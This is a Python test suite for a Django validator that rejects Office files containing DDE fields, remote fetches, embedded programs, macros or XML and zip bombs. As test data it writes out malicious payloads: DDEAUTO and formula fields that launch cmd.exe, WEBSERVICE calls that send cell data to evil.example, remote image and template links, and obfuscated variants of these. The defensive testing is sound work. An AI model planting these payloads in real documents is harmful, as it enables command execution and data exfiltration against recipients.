"""A DOCX or XLSX starts no program and fetches nothing from elsewhere, whatever its XML says."""

import io
import random
import zipfile

import pytest
from django.core.exceptions import ValidationError

from records.files import office_documents
from records.files.office_documents import checked_office
from tests.records.files import made

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def refusal(content: bytes) -> str | None:
    try:
        checked_office(content)
    except ValidationError as refused:
        return refused.code
    return None


def document(inside: str) -> bytes:
    return made.office(parts={"word/document.xml": f"<w:document {W}>{inside}</w:document>"})


def table(inside: str) -> bytes:
    return made.office(made.XLSX, {"xl/worksheets/sheet1.xml": f"<worksheet>{inside}</worksheet>"})


def turn(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def told(words: str, element: str = "instrText") -> str:
    return f"<w:r><w:{element}>{words}</w:{element}></w:r>"


BEGIN, SEPARATE, END = map(turn, ("begin", "separate", "end"))


# --- Fields --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "inside",
    [
        BEGIN + told('DDEAUTO c:\\\\cmd.exe "/k calc"') + SEPARATE + END,
        BEGIN + told(" dde excel book") + END,
        BEGIN + told("DD") + told("EAUTO c:\\\\cmd.exe") + SEPARATE + END,
        BEGIN + told("DD") + told("EAUTO c:\\\\cmd.exe", "t") + SEPARATE + END,
        BEGIN + told("DDEAUTO x", "delInstrText") + END,
        BEGIN + told("&#68;DE x") + END,
        BEGIN + told("DDEAUTO never ended"),
        BEGIN + told("IF 1 = 1 ") + BEGIN + told("DDEAUTO x") + END + SEPARATE + END,
        BEGIN + told("PAGE") + SEPARATE + BEGIN + told("LINK Excel.Sheet.8 x") + END + END,
        BEGIN + BEGIN + told("QUOTE 68 68 69") + END + told(" cmd") + END,
        BEGIN + told("DD") + BEGIN + told("QUOTE 69") + END + told(" cmd") + END,
        BEGIN + told('INCLUDEPICTURE "https://evil.example/p.png" \\d') + END,
        BEGIN + told("INCLUDETEXT x") + END,
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>',
        '<w:pict><v:imagedata xmlns:v="urn:v" src="https://evil.example/p.png"/></w:pict>',
        '<w:pict><v:imagedata xmlns:v="urn:v" src="\\\\evil.example\\p.png"/></w:pict>',
        "<w:mailMerge/>",
    ],
)
def test_field_that_starts_or_fetches_something_is_refused(inside):
    assert refusal(document(inside)) == "external"


@pytest.mark.parametrize(
    "inside",
    [
        BEGIN + told(" PAGE ") + SEPARATE + told("DDE 7", "t") + END,
        told("DDEAUTO is a field of Word", "t"),
        BEGIN + told("= ") + BEGIN + told("NUMPAGES") + END + told(" - 1") + SEPARATE + END,
        BEGIN + told("IF ") + BEGIN + told("MERGEFIELD x") + END + told(' = "" "a"') + END,
        BEGIN + told("ADDIN ZOTERO_ITEM " + "{DDE} " * 5_000) + SEPARATE + END,
        BEGIN + told('HYPERLINK "https://rivers.example"') + SEPARATE + END,
        BEGIN + told("MACROBUTTON NoMacro [name]") + END,
        '<w:fldSimple w:instr="DATE"/>' + END,
        '<w:pict><v:imagedata xmlns:v="urn:v" src="media/image1.png"/></w:pict>',
    ],
)
def test_field_that_tells_of_the_document_itself_is_taken(inside):
    assert refusal(document(inside)) is None


def test_field_is_read_in_another_encoding_too():
    words = f'<?xml version="1.0" encoding="UTF-16"?><w:p {W}>{BEGIN}{told("DDE x")}{END}</w:p>'

    assert refusal(made.office(parts={"word/document.xml": words.encode("utf-16")})) == "external"


def test_field_in_a_part_of_any_name_is_found():
    header = f"<w:hdr {W}>{BEGIN}{told('DDE x')}{END}</w:hdr>"

    assert refusal(made.office(parts={"word/header.bin": header})) == "external"


# --- Tables --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/C calc'!A0",
        "1+<!-- -->MSEXCEL|&#39;\\..\\cmd.exe&#39;!A0",
        '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)',
        '_xlfn.IMAGE ("https://evil.example/p.png")',
        'rtd("x",,"y")',
        'CALL("urlmon","x")',
    ],
)
@pytest.mark.parametrize("element", ["f", "formula", "formula1", "definedName"])
def test_formula_that_starts_or_fetches_something_is_refused(formula, element):
    assert refusal(table(f"<{element}>{formula}</{element}>")) == "external"


@pytest.mark.parametrize(
    "formula", ['A1&amp;"a|b"', "SUM(A1:A9)", "MYIMAGE(A1)", 'IF(A1="IMAGE",1)']
)
def test_formula_that_computes_is_taken(formula):
    assert refusal(table(f"<f>{formula}</f><v>a|b</v>")) is None


def test_formula_longer_than_any_is_damaged():
    assert refusal(table(f"<f>{'1+' * 6_000}1</f>")) == "damaged"


def test_exchange_with_another_program_is_refused():
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'

    assert refusal(made.office(made.XLSX, {"xl/externalLinks/link1.xml": link})) == "external"


# --- Relationships and what lies inside -----------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("oleObject", "program"),
        ("control", "program"),
        ("aFChunk", "program"),
        ("vbaProject", "program"),
        ("webextensiontaskpanes", "program"),
        ("attachedTemplate", "external"),
        ("externalLink", "external"),
        ("connections", "external"),
        ("subDocument", "external"),
        ("styles", None),
    ],
)
def test_what_a_part_leads_to_is_told_by_the_kind_of_relationship(kind, code):
    assert refusal(made.office(parts=made.link(kind, "other.bin", "Internal"))) == code


@pytest.mark.parametrize(
    "content",
    [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"MZ\x90", b"{\\rtf1 }", made.office(made.DOCX)],
)
def test_file_of_another_kind_inside_is_refused_wherever_it_lies(content):
    assert refusal(made.office(parts={"word/media/image1.png": content})) == "program"


# --- Bombs ---------------------------------------------------------------------------------------


def names_without_end() -> str:
    return "".join(f"<n{number}/>" for number in range(30_000))


@pytest.mark.parametrize(
    "inside",
    [
        "<a>" * 600 + "</a>" * 600,
        "<a>" * 300_000,
        names_without_end(),
        f'<a b="{random.Random(7).randbytes(1_200_000).hex()}"/>',
    ],
)
def test_xml_that_needs_far_more_memory_than_its_size_is_not_read(inside):
    assert refusal(document(inside)) == "bomb"


def test_large_drawing_in_one_attribute_is_read():
    assert refusal(document(f'<a b="{random.Random(7).randbytes(500_000).hex()}"/>')) is None


def test_very_many_elements_are_not_read(monkeypatch):
    allowed = office_documents.Allowance
    monkeypatch.setattr(office_documents, "Allowance", lambda: allowed(elements=1_000))

    assert refusal(document("<a/>" * 900)) is None
    assert refusal(document("<a/>" * 1_000)) == "bomb"


def test_files_inside_share_what_may_be_read_of_the_whole():
    """Many tables, each of them well within what one may hold."""
    noise = random.Random(7).randbytes(40_000).hex()
    inside = made.office(made.XLSX, {"xl/sheet.xml": f"<a>{noise * 20}</a>"})
    many: dict[str, str | bytes] = {
        f"word/embeddings/table{number}.xlsx": inside for number in range(45)
    }

    assert refusal(made.office(parts={"word/embeddings/table.xlsx": inside})) is None
    assert refusal(made.office(parts=many)) == "bomb"


def test_part_that_is_cut_off_is_damaged():
    written = io.BytesIO(made.office())
    with zipfile.ZipFile(written, "a") as packed:
        packed.writestr("word/styles.xml", "<styles><style>")

    assert refusal(written.getvalue()) == "damaged"


# --- Written as no office does --------------------------------------------------------------------

TEMPLATE = made.link("attachedTemplate", "http://x.example/t.dotm")["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/_rels/a.rels", " " * 100 + TEMPLATE),
        ("odd/part.bin", b"\xef\xbb\xbf" + b"\n" * 70_000 + TEMPLATE.encode()),
    ],
)
def test_blanks_before_the_first_sign_hide_nothing(name, content):
    assert refusal(made.office(parts={name: content})) == "external"


def test_part_in_letters_that_no_office_writes_is_damaged():
    content = ('<?xml version="1.0" encoding="cp037"?>' + TEMPLATE).encode("cp037")

    assert refusal(made.office(parts={"word/_rels/a.rels": content})) == "damaged"


@pytest.mark.parametrize(
    "formula", ['WEB<x/>SERVICE("http://x.example")', '<x>1</x>WEBSERVICE("http://x.example")']
)
def test_formula_that_is_cut_by_elements_is_read_whole(formula):
    assert refusal(table(f"<f>{formula}</f>")) == "external"


def test_fraction_of_absolute_values_is_no_formula_of_a_table():
    assert refusal(document("<m:f xmlns:m='m'><m:num>|x|</m:num></m:f>")) is None


@pytest.mark.parametrize(
    ("picture", "expected"),
    [
        ('<a:blip xmlns:a="a" xmlns:r="r" r:link="rId1"/>', "external"),
        ('<a:blip xmlns:a="a" xmlns:r="r" r:embed="rId1" r:link=""/>', None),
        ('<v:imagedata xmlns:v="v" xmlns:o="o" o:href="http://x.example/p.png"/>', "external"),
        ('<v:shape xmlns:v="v" href="http://x.example/"/>', None),  # somebody must follow it
        ('<image href="data:image/png;base64,AAAA"/>', None),
        ('<image href="http://x.example/p.png"/>', "external"),
    ],
)
def test_picture_from_elsewhere_is_refused_however_it_is_linked(picture, expected):
    assert refusal(document(picture)) == expected


def test_address_with_one_slash_is_elsewhere_too():
    linked = made.link("image", "file:/c/x.png", mode="Internal")

    assert refusal(made.office(parts=linked)) == "external"
